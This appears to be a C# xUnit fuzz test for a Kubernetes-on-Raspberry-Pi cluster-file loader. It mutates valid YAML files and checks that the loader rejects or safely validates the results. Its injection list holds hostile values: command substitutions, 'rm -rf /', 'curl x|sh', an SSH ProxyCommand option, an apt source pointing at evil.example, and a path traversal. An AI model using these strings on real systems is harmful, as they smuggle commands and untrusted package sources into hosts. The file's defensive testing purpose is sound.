using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Linq;
using System.Text;
using PiCluster.Clusters;
using Xunit;
using Xunit.Abstractions;

namespace PiCluster.Tests.Clusters;

/// <summary>
/// Random mutations of the valid example files (injections, deep nesting, anchors and aliases, random bytes, duplicated
/// and dropped lines): the loader must only ever return a definition that keeps every rule or throw its own
/// <see cref="ClusterFileException"/>, each within a bound. Seeded, so a failure names the seed and iteration that
/// reproduce it; PICLUSTER_MUTATION_SEED picks another seed.
/// </summary>
public class ClusterFileMutationTests(ITestOutputHelper output)
{
    private const int Iterations = 4000;
    /// <summary>Per mutant; they take a millisecond or so, the rest is room for a busy machine.</summary>
    private static readonly TimeSpan Bound = TimeSpan.FromSeconds(2);

    private static readonly string[] Injections =
    {
        "\"x\\ndeb [trusted=yes] http://evil.example/ /\"", "\"'; rm -rf /; '\"", "\"$(reboot)\"", "\"`id`\"", "\"\\\"quoted\\\"\"", "\"x\\n\"", "\"192.168.1.1\\n\"", "\"1.34\\n\"", "\"node01\\r\\n\"",
        "-oProxyCommand=sh", "\"-oProxyCommand=touch /tmp/x\"", "ssh://root@127.0.0.1:22", "root@127.0.0.1", "\"127.0.0.1\\0\"",
        "\"127.0.0.1\\r\"", "\"a\\tb\"", "host:22", "\"[::1]:22\"", "\"\\e[2J\"", "\"\\u2028\"", "1.34; curl x|sh", "eth0:1", "../../etc",
        "\"\"", "~", "null", "[]", "{}", "0", "-1", "65536", "99999999999", "Node_01", "\"192.168.1.1\\nstatic domain_name_servers=6.6.6.6\"",
    };

    private static readonly string[] Structures =
    {
        "&a x", "*a", "&a [*a]", "!!binary aGVsbG8=", "!custom x", "? [a]\n: b", "{a: 1, a: 2}", "[a, [b, [c]]]", "|\n  multi\n  line", ">-\n  folded",
    };

    [Fact]
    public void MutatedValidFilesNeverCrashHangOrPassAForbiddenValue()
    {
        var seed = int.TryParse(Environment.GetEnvironmentVariable("PICLUSTER_MUTATION_SEED"), out var s) ? s : 20261201;
        var random = new Random(seed);
        var validDir = Path.Combine(AppContext.BaseDirectory, "ClusterFiles", "valid");
        var valid = Directory.GetFiles(validDir, "*.yaml").OrderBy(f => f, StringComparer.Ordinal).Select(File.ReadAllText).ToArray();
        // Named as if beside the valid examples: their key file paths are relative to the cluster file.
        var warmUpName = Path.Combine(validDir, "warm-up.yaml");
        var mutantName = Path.Combine(validDir, "mutant.yaml");
        foreach (var file in valid)
            ClusterFileLoader.Parse(Encoding.UTF8.GetBytes(file), warmUpName); // JIT first, so the bound is the mutant's
        int loaded = 0, refused = 0;
        var slowest = TimeSpan.Zero;
        for (var i = 0; i < Iterations; i++)
        {
            var bytes = Mutate(valid[random.Next(valid.Length)], random);
            var watch = Stopwatch.StartNew();
            ClusterDefinition? cluster = null;
            try
            {
                cluster = ClusterFileLoader.Parse(bytes, mutantName);
                loaded++;
            }
            catch (ClusterFileException e)
            {
                refused++;
                Assert.True(e.Errors.Count is > 0 and <= ClusterFileLimits.MaxErrors, $"seed {seed}, iteration {i}: {e.Errors.Count} errors");
                Assert.All(e.Errors, err => Assert.True(err.Line >= 1 && err.Column >= 1 && !err.Message.Contains('\n'), err.ToString()));
            }
            catch (Exception e)
            {
                Assert.Fail($"seed {seed}, iteration {i}: {e.GetType().Name}: {e.Message}\n--- input ---\n{Encoding.UTF8.GetString(bytes)}");
            }
            watch.Stop();
            slowest = watch.Elapsed > slowest ? watch.Elapsed : slowest;
            Assert.True(watch.Elapsed < Bound, $"seed {seed}, iteration {i}: {watch.ElapsedMilliseconds} ms\n{Encoding.UTF8.GetString(bytes)}");
            if (cluster is not null)
            {
                var broken = BrokenRules(cluster).ToList();
                Assert.True(broken.Count == 0, $"seed {seed}, iteration {i} loaded forbidden values: {string.Join("; ", broken)}\n--- input ---\n{Encoding.UTF8.GetString(bytes)}");
            }
        }
        output.WriteLine($"seed {seed}: {Iterations} mutants, {loaded} loaded, {refused} refused, slowest {slowest.TotalMilliseconds:F1} ms");
        Assert.True(refused > Iterations / 4 && loaded > 0, $"{loaded} loaded, {refused} refused: the mutations should produce both");
    }

    /// <summary>Every field of a loaded definition, checked again with the rules; and it turns into PiNodes.</summary>
    private static IEnumerable<string> BrokenRules(ClusterDefinition c)
    {
        var problems = new List<string?>
        {
            ValueRules.ClusterName(c.Name), ValueRules.KubernetesVersionText(c.Kubernetes.Version),
            ValueRules.Subnet(c.Kubernetes.PodSubnet, "podSubnet", "10.244.0.0/16"), ValueRules.Subnet(c.Kubernetes.ServiceSubnet, "serviceSubnet", "10.96.0.0/12"),
            c.Kubernetes.ControlPlaneEndpoint.Length == 0 ? null : ValueRules.ControlPlaneEndpoint(c.Kubernetes.ControlPlaneEndpoint),
            c.Network.Manifest.Length == 0 ? null : ValueRules.FilePath(c.Network.Manifest),
            new[] { "flannel", "calico", "canal" }.Contains(c.Network.Plugin) ? null : "plugin " + c.Network.Plugin,
            new[] { "containerd", "cri-o" }.Contains(c.Runtime.Name) ? null : "runtime " + c.Runtime.Name,
        };
        problems.AddRange(Ssh(c.Ssh));
        if (c.Lan is { } lan)
        {
            problems.Add(ValueRules.InterfaceName(lan.Interface));
            problems.Add(lan.PrefixLength is >= 1 and <= 128 ? null : "prefixLength " + lan.PrefixLength);
            problems.Add(lan.Gateway.Length == 0 ? null : ValueRules.Gateway(lan.Gateway));
            problems.AddRange(lan.Dns.Select(ValueRules.DnsServer));
        }
        Assert.InRange(c.Nodes.Count, 1, ClusterFileLimits.MaxNodes);
        foreach (var node in c.Nodes)
        {
            problems.Add(ValueRules.NodeName(node.Name));
            problems.Add(ValueRules.Address(node.Address));
            problems.Add(node.LanAddress is null ? null : ValueRules.LanAddress(node.LanAddress));
            problems.Add(node.Role is "control-plane" or "worker" ? null : "role " + node.Role);
            problems.AddRange(Ssh(node.Ssh));
        }
        foreach (var problem in problems.Where(p => p is not null))
            yield return problem!;
        string? toNodes = null;
        try { ClusterNodes.ToPiNodes(c); }
        catch (ArgumentException e) { toNodes = "PiNode: " + e.Message; }
        if (toNodes is not null)
            yield return toNodes;
    }

    private static IEnumerable<string?> Ssh(SshSettings ssh) => new[]
    {
        ssh.User is null ? null : ValueRules.SshUser(ssh.User),
        ssh.Port is null ? null : ValueRules.Port(ssh.Port.Value),
        ssh.IdentityFile is null ? null : ValueRules.FilePath(ssh.IdentityFile),
        ssh.ConfigFile is null ? null : ValueRules.FilePath(ssh.ConfigFile),
    };

    /// <summary>One to three mutations of a text, and now and then of its bytes.</summary>
    private static byte[] Mutate(string yaml, Random random)
    {
        var lines = yaml.Split('\n').ToList();
        for (var n = random.Next(1, 4); n > 0; n--)
        {
            var at = random.Next(lines.Count);
            var line = lines[at];
            var colon = line.IndexOf(": ", StringComparison.Ordinal);
            switch (random.Next(8))
            {
                case 0 or 1 when colon > 0: // a hostile value for a field
                    lines[at] = line.Substring(0, colon + 2) + Injections[random.Next(Injections.Length)];
                    break;
                case 2 when colon > 0: // deep nesting in place of a value
                    var depth = random.Next(2) == 0 ? random.Next(50, 70) : random.Next(1000, 60000);
                    lines[at] = line.Substring(0, colon + 2) + new string(random.Next(2) == 0 ? '[' : '{', depth) + (random.Next(2) == 0 ? "" : "x");
                    break;
                case 3 when colon > 0: // anchors, aliases, tags, complex keys, block scalars
                    lines[at] = line.Substring(0, colon + 2) + Structures[random.Next(Structures.Length)];
                    break;
                case 4: // a duplicated line: duplicated keys, duplicated nodes
                    lines.Insert(at, line);
                    break;
                case 5: // a dropped line
                    lines.RemoveAt(at);
                    if (lines.Count == 0) lines.Add("");
                    break;
                case 6 when line.Length > 0: // a random character
                    lines[at] = line.Insert(random.Next(line.Length), ((char)random.Next(0, 0x3000)).ToString());
                    break;
                default: // an indentation change
                    lines[at] = random.Next(2) == 0 ? " " + line : line.TrimStart();
                    break;
            }
        }
        var bytes = Encoding.UTF8.GetBytes(string.Join('\n', lines));
        if (random.Next(10) == 0 && bytes.Length > 0) // a random byte: invalid UTF-8, NUL, control bytes
            bytes[random.Next(bytes.Length)] = (byte)random.Next(256);
        return bytes;
    }
}
